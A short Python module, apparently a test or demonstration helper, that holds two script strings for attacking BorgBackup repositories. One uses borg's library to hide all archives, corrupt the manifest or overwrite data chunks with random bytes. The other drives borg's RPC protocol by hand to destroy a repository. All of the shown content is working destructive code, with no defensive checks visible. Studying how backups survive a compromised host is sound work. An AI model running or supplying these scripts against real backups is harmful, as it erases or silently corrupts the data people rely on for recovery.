"""What root on production does to a repository: borg's own modules, and its protocol by hand."""

HARM = """
import os, sys
from borg.archiver import Archiver
from borg.helpers import Location, Manifest
from borg.logger import setup_logging
from borg.remote import RemoteRepository
setup_logging()
url, how = sys.argv[1:]
args = Archiver().parse_args(["list", url])
with RemoteRepository(Location(url), exclusive=True, args=args) as repository:
    manifest, key = Manifest.load(repository, ())
    if how == "hide":
        for name in list(manifest.archives):
            del manifest.archives[name]
        manifest.write()
    elif how == "garbage":
        repository.put(Manifest.MANIFEST_ID, os.urandom(4000))
    elif how == "overwrite":
        for id in repository.list(limit=50):
            if id != Manifest.MANIFEST_ID:
                repository.put(id, os.urandom(100))
    repository.commit(compact=True)
"""
DESTROY = """
import os, subprocess, sys
from borg.helpers import msgpack
pipe = subprocess.Popen(sys.argv[2:], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
opening = {"path": sys.argv[1], "create": True, "lock_wait": 1, "lock": True, "exclusive": True}
hello = {"client_data": {b"client_version": (1, 4, 5)}}
for n, (method, words) in enumerate((("negotiate", hello), ("open", opening), ("destroy", {}))):
    pipe.stdin.write(msgpack.packb({b"i": n, b"m": method, b"a": words}))
    pipe.stdin.flush()
    answer = msgpack.unpackb(os.read(pipe.stdout.fileno(), 65536))
    print(method, answer.get(b"exception_class", b"done").decode())
"""
